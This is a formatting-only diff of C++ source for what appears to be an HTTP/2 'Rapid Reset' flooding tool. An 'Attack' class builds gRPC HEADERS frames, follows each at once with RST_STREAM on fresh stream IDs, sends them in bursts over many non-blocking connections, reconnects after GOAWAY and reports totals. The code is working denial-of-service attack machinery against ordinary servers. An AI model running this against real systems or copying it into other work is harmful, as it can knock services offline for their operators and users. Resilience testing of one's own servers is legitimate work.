@@ -187,21 +187,30 @@ void literal_new_name(std::string& out, std::string_view name, std::string_view 
 // :path, :authority, content-type: application/grpc, te: trailers).
 std::string request_block(const std::string& path, const std::string& authority) {
   std::string block;
-  block += static_cast<char>(0x83);  // :method POST (static 3)
-  block += static_cast<char>(0x86);  // :scheme http (static 6)
-  literal_indexed_name(block, 4, path);        // :path
-  literal_indexed_name(block, 1, authority);   // :authority
+  block += static_cast<char>(0x83);                     // :method POST (static 3)
+  block += static_cast<char>(0x86);                     // :scheme http (static 6)
+  literal_indexed_name(block, 4, path);                 // :path
+  literal_indexed_name(block, 1, authority);            // :authority
   literal_indexed_name(block, 31, "application/grpc");  // content-type
   literal_new_name(block, "te", "trailers");
   return block;
 }
 
 const char* error_name(uint32_t code) {
-  static const char* const names[] = {
-      "NO_ERROR",       "PROTOCOL_ERROR",    "INTERNAL_ERROR",      "FLOW_CONTROL_ERROR",
-      "SETTINGS_TIMEOUT", "STREAM_CLOSED",   "FRAME_SIZE_ERROR",    "REFUSED_STREAM",
-      "CANCEL",         "COMPRESSION_ERROR", "CONNECT_ERROR",       "ENHANCE_YOUR_CALM",
-      "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
+  static const char* const names[] = {"NO_ERROR",
+                                      "PROTOCOL_ERROR",
+                                      "INTERNAL_ERROR",
+                                      "FLOW_CONTROL_ERROR",
+                                      "SETTINGS_TIMEOUT",
+                                      "STREAM_CLOSED",
+                                      "FRAME_SIZE_ERROR",
+                                      "REFUSED_STREAM",
+                                      "CANCEL",
+                                      "COMPRESSION_ERROR",
+                                      "CONNECT_ERROR",
+                                      "ENHANCE_YOUR_CALM",
+                                      "INADEQUATE_SECURITY",
+                                      "HTTP_1_1_REQUIRED"};
   return code < std::size(names) ? names[code] : nullptr;
 }
 
@@ -260,9 +269,9 @@ class Attack {
   void close(Connection& c, bool by_server, const char* why);
   void queue(Connection& c, std::string bytes, size_t record);
   void queue_burst(Connection& c);
-  bool flush(Connection& c);      // false: the connection was closed.
-  bool read_all(Connection& c);   // false: the connection was closed.
-  bool on_frame(Connection& c);   // false: the connection was closed.
+  bool flush(Connection& c);     // false: the connection was closed.
+  bool read_all(Connection& c);  // false: the connection was closed.
+  bool on_frame(Connection& c);  // false: the connection was closed.
   void on_event(Connection& c, uint32_t events);
   void report_started();
   void report_totals(double elapsed);
@@ -353,7 +362,7 @@ void Attack::queue_burst(Connection& c) {
   for (size_t i = 0; i < streams; ++i, p += record_.size()) {
     std::memcpy(p, record_.data(), record_.size());
     uint32_t id = htonl(c.next_stream);
-    std::memcpy(p + 5, &id, 4);                                     // HEADERS
+    std::memcpy(p + 5, &id, 4);                                        // HEADERS
     std::memcpy(p + frame_header_length + block_.size() + 5, &id, 4);  // RST_STREAM
     c.next_stream += 2;
   }
@@ -363,8 +372,8 @@ void Attack::queue_burst(Connection& c) {
 
 bool Attack::flush(Connection& c) {
   while (c.out_offset < c.out.size()) {
-    ssize_t n = ::send(c.fd, c.out.data() + c.out_offset, c.out.size() - c.out_offset,
-                       MSG_NOSIGNAL);
+    ssize_t n =
+        ::send(c.fd, c.out.data() + c.out_offset, c.out.size() - c.out_offset, MSG_NOSIGNAL);
     if (n < 0) {
       if (errno == EAGAIN || errno == EWOULDBLOCK) return true;
       if (errno == EINTR) continue;
@@ -418,8 +427,8 @@ bool Attack::on_frame(Connection& c) {
     case frame_goaway:
       if (c.payload.size() >= 8) {
         const auto* p = reinterpret_cast<const uint8_t*>(c.payload.data()) + 4;
-        uint32_t code = (uint32_t{p[0]} << 24) | (uint32_t{p[1]} << 16) |
-                        (uint32_t{p[2]} << 8) | p[3];
+        uint32_t code =
+            (uint32_t{p[0]} << 24) | (uint32_t{p[1]} << 16) | (uint32_t{p[2]} << 8) | p[3];
         ++totals_.goaway[code];
       }
       // The server is done with this connection: come back on a new one.
@@ -503,10 +512,12 @@ void Attack::report_started() {
   if (started_reported_) return;
   started_reported_ = true;
   int connected = 0;
-  for (const Connection& c : connections_) connected += c.connected_once ? 1 : 0;
-  std::printf("{\"mode\":\"rapid_reset\",\"started\":true,\"connected\":%d,"
-              "\"record_bytes\":%zu}\n",
-              connected, record_.size());
+  for (const Connection& c : connections_)
+    connected += c.connected_once ? 1 : 0;
+  std::printf(
+      "{\"mode\":\"rapid_reset\",\"started\":true,\"connected\":%d,"
+      "\"record_bytes\":%zu}\n",
+      connected, record_.size());
   std::fflush(stdout);
 }
 
@@ -546,8 +557,7 @@ int Attack::run() {
   }
   address_.sin_family = AF_INET;
   address_.sin_port = htons(static_cast<uint16_t>(options_.port));
-  block_ = request_block(options_.path,
-                         options_.address + ":" + std::to_string(options_.port));
+  block_ = request_block(options_.path, options_.address + ":" + std::to_string(options_.port));
   frame_header(record_, block_.size(), frame_headers, flag_end_headers, 1);
   record_ += block_;
   frame_header(record_, 4, frame_rst_stream, 0, 1);
@@ -621,8 +631,8 @@ int Attack::run() {
       }
       if (c.fd >= 0) {
         // With no interval, the next burst goes as soon as this one is written (EPOLLOUT).
-        wake = std::min(wake, interval_ > 0 ? c.next_burst
-                                            : (c.out_offset < c.out.size() ? wake : now));
+        wake = std::min(wake,
+                        interval_ > 0 ? c.next_burst : (c.out_offset < c.out.size() ? wake : now));
       }
     }
     int timeout_ms = static_cast<int>(std::max(0.0, (wake - now_s()) * 1000.0) + 0.999);
@@ -641,7 +651,8 @@ int Attack::run() {
   }
   report_started();
   double elapsed = now_s() - start_;
-  for (Connection& c : connections_) close(c, false, nullptr);
+  for (Connection& c : connections_)
+    close(c, false, nullptr);
   report_totals(elapsed);
   return 0;
 }
